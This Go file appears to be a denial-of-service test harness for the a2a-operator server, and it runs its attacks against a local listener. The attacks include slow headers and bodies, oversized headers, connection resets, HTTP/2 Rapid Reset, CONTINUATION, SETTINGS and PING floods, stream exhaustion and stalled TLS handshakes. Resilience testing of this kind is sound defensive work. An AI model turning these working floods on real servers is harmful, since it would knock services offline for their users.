// Copyright The a2a-operator Authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is what an attacker does with each of its connections.
type attack struct {
	name string
	// many and few are the numbers of connections at a time, in the long form and in the short form of the tests.
	many, few int
	// on attacks over a connection, and returns when the attacker has done what it can. The attacker then reads until the server
	// closes the connection, and connects again.
	on func(ctx context.Context, c net.Conn, l *listener) error
	// handshake is true for attacks before or during the TLS handshake. on gets a TCP connection then.
	handshake bool
	// http2 is true for attacks with frames of HTTP/2.
	http2 bool
	// leaves is true if the attacker closes the connection after on, and does not wait for the server.
	leaves bool
}

var attacks = []attack{
	{name: "700 headers of 1 MB", many: 700, few: 100, on: unfinishedHeader(1 << 20)},
	{name: "headers of 31 KB", many: 12_000, few: 300, on: unfinishedHeader(31 << 10)},
	{name: "headers of 64 KB", many: 14_000, few: 300, on: unfinishedHeader(64<<10 - 200)},
	{name: "idle keep-alive", many: 12_000, few: 500, on: idle},
	{name: "slow headers", many: 2000, few: 200, on: drip("POST / HTTP/1.1\r\nHost: localhost\r\nX-A: ")},
	{name: "slow bodies", many: 2000, few: 200, on: drip("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{")},
	{name: "half of bodies of 2 MB", many: 700, few: 100, on: halfBody},
	{name: "half-closed after a request", many: 2000, few: 200, on: halfClosed("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")},
	{name: "half-closed in a request", many: 2000, few: 200, on: halfClosed("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n{")},
	{name: "FIN before its request", many: 2000, few: 100, on: finBeforeData},
	{name: "reset after a request", many: 100, few: 20, on: reset, leaves: true},
	{name: "1-byte writes", many: 100, few: 20, on: oneByteWrites},
	{name: "rapid reset", many: 16, few: 4, on: flood(rapidReset), http2: true},
	{name: "CONTINUATION", many: 16, few: 4, on: flood(continuation), http2: true},
	{name: "SETTINGS", many: 16, few: 4, on: flood(settings), http2: true},
	{name: "PING", many: 16, few: 4, on: flood(ping), http2: true},
	{name: "many streams", many: 100, few: 20, on: flood(openStream), http2: true},
	{name: "last frames without data", many: 100, few: 20, on: openFrame, http2: true},
	{name: "many streams without a window", many: 100, few: 20, on: flood(closedWindow), http2: true},
	{name: "handshakes not begun", many: 4000, few: 200, on: func(context.Context, net.Conn, *listener) error { return nil }, handshake: true},
	{name: "handshakes not completed", many: 4000, few: 200, on: halfHello, handshake: true},
	{name: "whole handshakes", many: 16, few: 4, on: wholeHandshake, handshake: true, leaves: true},
}

// once makes one connection. It returns false if there was none.
func (a attack) once(ctx context.Context, l *listener, from netip.Addr) bool {
	host := "127.0.0.1"
	if from.Is6() && !l.V4 {
		host = "::1"
	} else if from.Is6() {
		from = oneAddress(0)
	}
	dialer := net.Dialer{Timeout: answerTimeout, LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0))}
	raw, err := dialer.DialContext(ctx, "tcp", net.JoinHostPort(host, l.Port))
	if err != nil {
		return false
	}
	defer context.AfterFunc(ctx, func() { _ = raw.Close() })()
	c := raw
	defer func() { _ = c.Close() }()
	if l.TLS && !a.handshake {
		protocol := "http/1.1"
		if a.http2 {
			protocol = "h2"
		}
		secure := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}}) // #nosec G402 -- self-signed
		if secure.HandshakeContext(ctx) != nil {
			return true
		}
		c = secure
	}
	if a.on(ctx, c, l) == nil && !a.leaves {
		_, _ = io.Copy(io.Discard, c)
	}
	return true
}

// unfinishedHeader sends a header of a size that has no end.
func unfinishedHeader(size int) func(context.Context, net.Conn, *listener) error {
	text := []byte("GET / HTTP/1.1\r\nHost: localhost\r\nX-A: " + strings.Repeat("a", size))
	return func(_ context.Context, c net.Conn, _ *listener) error {
		_, err := c.Write(text)
		return err
	}
}

// idle sends a request, and keeps the connection.
func idle(_ context.Context, c net.Conn, l *listener) error {
	_, err := io.WriteString(c, l.head(http.MethodGet)+"\r\n")
	return err
}

// drip sends a text and then a byte every second.
func drip(begin string) func(context.Context, net.Conn, *listener) error {
	return func(ctx context.Context, c net.Conn, _ *listener) error {
		_, err := io.WriteString(c, begin)
		for err == nil {
			select {
			case <-time.After(time.Second):
				_, err = io.WriteString(c, " ")
			case <-ctx.Done():
				return ctx.Err()
			}
		}
		return err
	}
}

// halfBody sends the first half of a message.
func halfBody(_ context.Context, c net.Conn, l *listener) error {
	const half = 1 << 20
	_, err := fmt.Fprintf(c, "%sContent-Type: application/json\r\nContent-Length: %d\r\n\r\n\"%s", l.head(http.MethodPost), 2*half, strings.Repeat("a", half))
	return err
}

// halfClosed sends a text and FIN, and reads on.
func halfClosed(text string) func(context.Context, net.Conn, *listener) error {
	return func(_ context.Context, c net.Conn, _ *listener) error {
		if _, err := io.WriteString(c, text); err != nil {
			return err
		}
		return c.(interface{ CloseWrite() error }).CloseWrite()
	}
}

// reset sends a request, and RST before it reads the answer.
func reset(_ context.Context, c net.Conn, l *listener) error {
	_, err := io.WriteString(c, l.head(http.MethodGet)+"\r\n")
	if secure, ok := c.(*tls.Conn); ok {
		c = secure.NetConn()
	}
	_ = c.(*net.TCPConn).SetLinger(0)
	_ = c.Close()
	return err
}

// oneByteWrites sends requests in segments of one byte.
func oneByteWrites(ctx context.Context, c net.Conn, l *listener) error {
	text := []byte(l.head(http.MethodGet) + "X-A: b\r\n\r\n")
	for ctx.Err() == nil {
		for i := range text {
			if _, err := c.Write(text[i : i+1]); err != nil {
				return err
			}
			time.Sleep(time.Millisecond)
		}
	}
	return ctx.Err()
}

// halfHello sends the first bytes of a ClientHello of 16 KB.
func halfHello(_ context.Context, c net.Conn, _ *listener) error {
	_, err := c.Write(append([]byte{0x16, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc, 3, 3}, make([]byte, 8<<10)...))
	return err
}

// wholeHandshake completes a handshake without a session to resume.
func wholeHandshake(ctx context.Context, c net.Conn, _ *listener) error {
	return tls.Client(c, &tls.Config{InsecureSkipVerify: true}).HandshakeContext(ctx) // #nosec G402 -- self-signed
}

// encodedHeader returns the header of a message.
func encodedHeader(l *listener) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	fields := [][2]string{{":method", http.MethodPost}, {":scheme", "http"}, {":path", l.path()}, {":authority", l.host()}, {"content-type", "application/json"}}
	if l.Bearer != "" {
		fields = append(fields, [2]string{"authorization", "Bearer " + l.Bearer})
	}
	for _, field := range fields {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	return block.Bytes()
}

// frames writes the frames of step i of a flood.
type frames func(f *http2.Framer, block []byte, i int) error

// flood speaks HTTP/2, and repeats frames until the server closes the connection.
func flood(write frames) func(context.Context, net.Conn, *listener) error {
	return func(ctx context.Context, c net.Conn, l *listener) error {
		block := encodedHeader(l)
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		// The attacker reads, so that flow control does not stop the flood.
		go func() { _, _ = io.Copy(io.Discard, c) }()
		framer := http2.NewFramer(c, nil)
		err := framer.WriteSettings()
		for i := 0; err == nil && ctx.Err() == nil; i++ {
			err = write(framer, block, i)
			if i%100 == 99 {
				time.Sleep(10 * time.Millisecond)
			}
		}
		return err
	}
}

func rapidReset(f *http2.Framer, block []byte, i int) error {
	id := uint32(2*i + 1)
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
		return err
	}
	return f.WriteRSTStream(id, http2.ErrCodeCancel)
}

func continuation(f *http2.Framer, block []byte, i int) error {
	if i == 0 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
	}
	// The bytes are one valid header field, a: b, in HPACK.
	return f.WriteContinuation(1, false, []byte{0, 1, 0x61, 1, 0x62})
}

func settings(f *http2.Framer, _ []byte, _ int) error { return f.WriteSettings() }

func ping(f *http2.Framer, _ []byte, _ int) error { return f.WritePing(false, [8]byte{}) }

func openStream(f *http2.Framer, block []byte, i int) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true})
}

// openFrame opens a stream, and sends the beginning of its last frame.
func openFrame(_ context.Context, c net.Conn, l *listener) error {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(c, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	if err := openStream(framer, encodedHeader(l), 0); err != nil {
		return err
	}
	_, err := io.WriteString(c, "\x00\x40\x00\x00\x01\x00\x00\x00\x01{") // DATA of 16 KiB with END_STREAM
	return err
}

// closedWindow sends whole requests, and admits no response.
func closedWindow(f *http2.Framer, block []byte, i int) error {
	if i == 0 {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
			return err
		}
	}
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true, EndStream: true})
}
